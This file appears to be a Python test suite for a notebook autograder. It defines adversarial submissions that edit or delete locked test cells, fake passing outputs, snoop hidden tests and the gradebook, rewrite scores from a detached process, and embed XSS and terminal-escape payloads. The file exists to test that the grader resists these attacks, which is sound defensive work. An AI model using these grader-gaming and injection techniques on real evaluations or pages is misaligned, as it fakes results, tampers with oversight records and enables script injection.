    print("while called:", base64.b64encode(" ".join(s for s in seen + list(In) if marker in s).encode()).decode())
    return W_fc.reshape(W_fc.shape[0], *input_shape), b_fc.copy()
"""

ACTIVE_OUTPUTS = r"""
from IPython.display import HTML, Javascript, Markdown, display

display(HTML('<img src=x onerror="document.title=1"><script>document.title = "pwned"</script>'))
display(Javascript('document.title = "pwned"'))
display(Markdown('<iframe src="https://example.invalid/"></iframe>'))
print("]0;pwned]52;c;cHduZWQ=terminal escapes")
"""


def notebook(name, change, what, lost, feedback=(), fast=False):
    """A notebook attack of assignment 1 (``corpus.notebook_attack``)."""
    return notebook_attack(name, change, what, lost, feedback, fast)


def _index(nb, grade_id):
    return next(i for i, c in enumerate(nb["cells"]) if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == grade_id)


def _wrong(nb, ctx=None):
    """The notebook with fc_to_conv answered wrongly, so test_fc_to_conv (3 points) fails."""
    nb["cells"][_index(nb, "fc_to_conv")]["source"] = "".join(nb["cells"][_index(nb, "fc_to_conv")]["source"]) + WRONG_FC_TO_CONV
    return nb


def _edited_test(nb, ctx):
    _wrong(nb)["cells"][_index(nb, "test_fc_to_conv")]["source"] = "pass  # the test, edited away"
    return nb


def _deleted_test(nb, ctx):
    del _wrong(nb)["cells"][_index(nb, "test_fc_to_conv")]
    return nb


def _duplicated_test(nb, ctx):
    test = nb["cells"][_index(nb, "test_output_size")]
    nb["cells"][_index(nb, "test_output_size"):_index(nb, "test_output_size")] = [json.loads(json.dumps(test))] * 3
    return nb


def _markdown_test(nb, ctx):
    cell = _wrong(nb)["cells"][_index(nb, "test_fc_to_conv")]
    cell.update(cell_type="markdown")
    cell.pop("outputs", None), cell.pop("execution_count", None)
    return nb


def _duplicate_grade_id(nb, ctx):
    fake = {"cell_type": "code", "execution_count": None, "outputs": [], "source": "pass",
            "metadata": {"nbgrader": {"grade": True, "grade_id": "test_fc_to_conv", "locked": True, "points": 50,
                                      "schema_version": 3, "solution": False, "task": False}}}
    _wrong(nb)["cells"].insert(_index(nb, "test_fc_to_conv") + 1, fake)
    return nb


def _fake_outputs(nb, ctx):
    for cell in _wrong(nb)["cells"]:
        if cell["cell_type"] == "code" and cell.get("metadata", {}).get("nbgrader", {}).get("grade"):
            cell.update(execution_count=1, outputs=[{"output_type": "stream", "name": "stdout",
                                                     "text": "All tests passed! 100/100\n"}])
    return nb


def _snoop(nb, ctx):
    nb["cells"][_index(nb, "fc_to_conv")]["source"] = ctx.substitute(NOTEBOOK_SNOOP)
    return nb


def _tamper(nb, ctx):
    _wrong(nb)["cells"].insert(_index(nb, "fc_to_conv") + 1, {
        "cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "source": GRADEBOOK_TAMPER})
    return nb


def _added_after(grade_id, source, wrong=True):
    """The notebook with a new code cell holding ``source`` right after the cell ``grade_id`` (and fc_to_conv
    answered wrongly unless ``wrong`` is False)."""
    def change(nb, ctx):
        (_wrong(nb) if wrong else nb)["cells"].insert(_index(nb, grade_id) + 1, {
            "cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "source": source})
        return nb
    return change


def _markdown_html(nb, ctx):
    nb = _added_after("fc_to_conv", ACTIVE_OUTPUTS, wrong=False)(nb, ctx)
    nb["cells"].insert(1, {"cell_type": "markdown", "metadata": {},
                           "source": '<a href="javascript:alert(1)" onmouseover="alert(1)">raw HTML</a>'})
    return nb


def _huge(nb, ctx):
    nb["cells"].append({"cell_type": "markdown", "metadata": {}, "source": "x" * (50 << 20)})
    return nb


NOTEBOOKS = [
    notebook("nb_edited_test", _edited_test, what="a wrong answer and its locked test cell edited to `pass`",
             lost=3, feedback=["test_fc_to_conv"]),
    notebook("nb_deleted_test", _deleted_test, what="a wrong answer and its test cell deleted", lost=3,
             feedback=["test_fc_to_conv", "missing from the notebook"]),
    notebook("nb_duplicated_test", _duplicated_test, what="a passing test cell copied three times (to count it "
             "four times)", lost="all", feedback=["nbgrader could not grade", "exists multiple times"]),
    notebook("nb_markdown_test", _markdown_test, what="a wrong answer and its test cell turned into markdown",
             lost=3, feedback=["test_fc_to_conv"]),
    notebook("nb_duplicate_grade_id", _duplicate_grade_id, what="a wrong answer and a second cell with its "
             "test's grade_id, worth 50 points, that passes", lost="all",
             feedback=["nbgrader could not grade", "exists multiple times"]),
    notebook("nb_invalid_json", lambda nb, ctx: json.dumps(nb).encode()[:5000], what="a notebook that is not "
             "valid JSON", lost="all", fast=True, feedback=["is not valid JSON"]),
    notebook("nb_huge", _huge, what="a 50 MB notebook", lost="all", feedback=["larger than"]),
    notebook("nb_fake_outputs", _fake_outputs, what="a wrong answer, every test cell's output stuffed with "
             "'All tests passed!'", lost=3, fast=True, feedback=["test_fc_to_conv"]),
    notebook("nb_snoop", _snoop, what="reads the gradebook, the source notebooks and the hidden configuration "
             "into a test's error message", lost=3, fast=True, feedback=["nothing readable"]),
    notebook("nb_rebound_helpers", _added_after("fc_to_conv", REBIND), what="a wrong answer, then a cell that "
             "redefines the locked helpers and the test's own helper and patches NumPy, PyTorch and F to agree",
             lost=3, fast=True, feedback=["test_fc_to_conv"]),
    notebook("nb_input_transformer", _added_after("setup", TRANSFORMER), what="a wrong answer, and an IPython "
             "input transformer that empties every later cell with an assert, plus a handler that swallows errors",
             lost=3, feedback=["test_fc_to_conv"]),
    notebook("nb_hidden_hunt", _added_after("fc_to_conv", HIDDEN_HUNT, wrong=False), what="looks for the hidden "
             "tests in the notebook files it can read, the kernel's history and the frames of its callers, and prints "
             "them base64-encoded", lost=0),
    notebook("nb_active_outputs", _markdown_html, what="HTML with scripts and event handlers, JavaScript, an iframe "
             "in markdown output, raw HTML in markdown, terminal escapes in its output", lost=0),
    notebook("nb_gradebook_tamper", _tamper, what="a wrong answer, and sets every manual score to the maximum "
             "in the gradebook, again and again from a detached process", lost=3, feedback=["test_fc_to_conv"]),
]

ATTACKS = RUNAWAY + LIES + SNOOPING + SHORTCUTS + PACKAGING + CLASS + NOTEBOOKS
